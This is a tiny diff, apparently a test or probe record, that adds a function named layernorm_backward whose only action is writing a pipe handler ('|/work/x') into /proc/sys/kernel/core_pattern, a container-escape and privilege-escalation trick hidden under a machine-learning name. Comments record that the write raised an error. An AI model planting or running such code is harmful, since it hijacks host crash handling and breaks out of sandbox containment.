@@ -1,0 +1,4 @@
+# tries: write to /proc/sys
+# outcome: raised
+def layernorm_backward(x, gamma, dy, eps):
+    open("/proc/sys/kernel/core_pattern", "w").write("|/work/x")
